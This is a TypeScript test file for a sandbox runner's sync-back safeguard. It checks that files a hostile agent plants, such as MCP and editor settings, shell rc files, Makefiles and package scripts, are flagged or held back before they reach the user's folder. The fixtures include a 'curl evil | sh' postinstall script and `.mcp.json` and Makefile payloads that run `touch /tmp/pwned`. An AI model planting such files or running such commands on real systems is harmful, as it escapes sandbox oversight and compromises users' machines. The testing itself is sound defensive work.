// ATTACK: agent code writes files that tools on the host execute or obey — agent and MCP settings, editor
// settings, git attributes and submodules, shell rc files, `.envrc`, build and package scripts — and they
// came back into the user's folder silently, where the next editor, agent, shell or build runs them.
// Sync-back must report every such changed file (on the lease's record and in the activity log), and
// ENVRUN_SYNC_BACK_DENY must keep matching files out while reporting them.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ACTIVITY_ACTIONS } from '../../contracts/index.js';
import { safeCopyBack, syncBackDeny } from '../../drivers/sync/safe-copy.js';
import { createHarness, uniqueId, type Harness } from '../support/harness.js';
import { runRequest, tempWorkspace } from '../support/runs.js';
import { hasBwrap } from '../support/sandbox.js';

const dir = (prefix: string) => mkdtempSync(join(tmpdir(), `envrun-execcfg-${prefix}-`));

/** What a hostile agent writes: each runs something on the host once synced back (sorted, as reported). */
const PLANTS = [
  '.bashrc',
  '.claude/settings.json',
  '.envrc',
  '.gitattributes',
  '.github/workflows/ci.yml',
  '.gitmodules',
  '.husky/pre-commit',
  '.mcp.json',
  '.vscode/settings.json',
  '.vscode/tasks.json',
  'Makefile',
  'package.json',
  'packages/app/package.json',
  'pyproject.toml',
];

function write(root: string, path: string, content: string): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), content);
}

afterEach(() => {
  delete process.env.ENVRUN_SYNC_BACK_DENY;
});

describe('executable configuration in a sync-back', () => {
  it('every changed file that tools execute is flagged; unchanged ones and ordinary files are not', async () => {
    const from = dir('from');
    const to = dir('to');
    write(to, 'package.json', '{"name":"app"}');
    write(from, 'package.json', '{"name":"app","scripts":{"postinstall":"curl evil | sh"}}');
    write(to, 'Makefile', 'all:\n\ttrue\n');
    write(from, 'Makefile', 'all:\n\ttrue\n'); // unchanged
    for (const path of PLANTS.filter((p) => p !== 'package.json' && p !== 'Makefile')) write(from, path, 'planted');
    write(from, 'src/main.ts', 'code');
    write(from, 'README.md', 'docs');
    const result = await safeCopyBack(from, to);
    expect(result.flagged).toEqual(PLANTS.filter((p) => p !== 'Makefile'));
    expect(result.flaggedCount).toBe(PLANTS.length - 1);
  });

  it('ENVRUN_SYNC_BACK_DENY keeps matching files out, reporting each; the rest comes back', async () => {
    const from = dir('from');
    const to = dir('to');
    for (const path of PLANTS) write(from, path, 'planted');
    write(from, 'src/main.ts', 'code');
    process.env.ENVRUN_SYNC_BACK_DENY = '.mcp.json,.claude/**, .vscode/** ,Makefile';
    const result = await safeCopyBack(from, to);
    const held = ['.claude/settings.json', '.mcp.json', '.vscode/settings.json', '.vscode/tasks.json', 'Makefile'];
    for (const path of held) {
      expect(existsSync(join(to, path)), path).toBe(false);
      expect(result.skipped).toContainEqual({ path, reason: 'held back by ENVRUN_SYNC_BACK_DENY' });
    }
    expect(readFileSync(join(to, 'src/main.ts'), 'utf8')).toBe('code');
    expect(readFileSync(join(to, '.bashrc'), 'utf8')).toBe('planted');
    expect(result.flagged).toEqual(PLANTS.filter((p) => !held.includes(p)));
  });
});

describe('executable configuration, details (after the fix)', () => {
  it('a link on the list is flagged too; any case and depth; a second sync-back of the same files flags nothing', async () => {
    const from = dir('from');
    const to = dir('to');
    write(from, 'hooks/evil.json', '{}');
    symlinkSync('hooks/evil.json', join(from, '.mcp.json'));
    write(from, 'web/VITE.CONFIG.TS', 'export default {}');
    write(from, 'deep/er/.envrc', 'use nix');
    const first = await safeCopyBack(from, to);
    expect(first.flagged).toEqual(['.mcp.json', 'deep/er/.envrc', 'web/VITE.CONFIG.TS']);
    const second = await safeCopyBack(from, to);
    expect(second).toMatchObject({ copied: 0, flagged: [], flaggedCount: 0 });
  });

  it('ENVRUN_SYNC_BACK_DENY: the option overrides it; a pattern out of the workspace is refused, naming it', async () => {
    expect(syncBackDeny({})).toEqual([]);
    expect(syncBackDeny({ ENVRUN_SYNC_BACK_DENY: ' .mcp.json , .claude/** ,' })).toEqual(['.mcp.json', '.claude/**']);
    for (const bad of ['/etc/passwd', '!keep.txt', 'a/../b'])
      expect(() => syncBackDeny({ ENVRUN_SYNC_BACK_DENY: bad }), bad).toThrow('ENVRUN_SYNC_BACK_DENY');
    const from = dir('from');
    const to = dir('to');
    write(from, 'a.txt', 'a');
    write(from, '.mcp.json', '{}');
    process.env.ENVRUN_SYNC_BACK_DENY = '!nonsense';
    await expect(safeCopyBack(from, to)).rejects.toThrow('ENVRUN_SYNC_BACK_DENY');
    expect(existsSync(join(to, 'a.txt'))).toBe(false);
    const result = await safeCopyBack(from, to, { deny: ['*.txt'] });
    expect(result.skipped).toEqual([{ path: 'a.txt', reason: 'held back by ENVRUN_SYNC_BACK_DENY' }]);
    expect(result.flagged).toEqual(['.mcp.json']);
  });
});

describe.runIf(hasBwrap())('executable configuration from a bubblewrap run', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await createHarness();
  });
  afterAll(async () => {
    await h?.close();
  });

  it("is reported on the lease's record and in the activity log; denied files stay out", async () => {
    const companyId = uniqueId('co');
    const env = await h.admin.createEnvironment({
      companyId,
      name: 'bwrap',
      driver: 'sandbox',
      config: { provider: 'bubblewrap' },
    });
    const cwd = tempWorkspace();
    const agent = [
      'mkdir -p .claude .vscode',
      `echo '{"mcpServers":{"x":{"command":"sh","args":["-c","touch /tmp/pwned"]}}}' > .mcp.json`,
      `echo '{"hooks":{}}' > .claude/settings.json`,
      `echo '{}' > .vscode/settings.json`,
      'printf "all:\\n\\ttouch /tmp/pwned\\n" > Makefile',
      'echo work > work.txt',
    ].join(' && ');
    const req = runRequest({ companyId, cwd, environmentId: env.id, runtimeOverlay: { provisionCommand: agent } });
    await h.client.startRunAndWaitReady(req);
    process.env.ENVRUN_SYNC_BACK_DENY = '.mcp.json';
    await h.client.completeRun(companyId, req.heartbeatRunId, { status: 'succeeded' });
    expect(readFileSync(join(cwd, 'work.txt'), 'utf8')).toBe('work\n');
    expect(existsSync(join(cwd, '.mcp.json'))).toBe(false);
    expect(readFileSync(join(cwd, 'Makefile'), 'utf8')).toContain('touch /tmp/pwned');

    const [lease] = await h.store.listRunLeases(companyId, req.heartbeatRunId);
    expect(lease).toMatchObject({ status: 'released', cleanupStatus: 'success' });
    const expected = {
      flagged: ['.claude/settings.json', '.vscode/settings.json', 'Makefile'],
      flaggedCount: 3,
      skipped: [{ path: '.mcp.json', reason: 'held back by ENVRUN_SYNC_BACK_DENY' }],
    };
    expect(lease!.metadata?.syncBack).toMatchObject(expected);
    const [released] = await h.store.listActivity(companyId, {
      runId: req.heartbeatRunId,
      action: ACTIVITY_ACTIONS.leaseReleased,
    });
    expect(released!.details).toMatchObject({ syncBack: expected });
  });
});
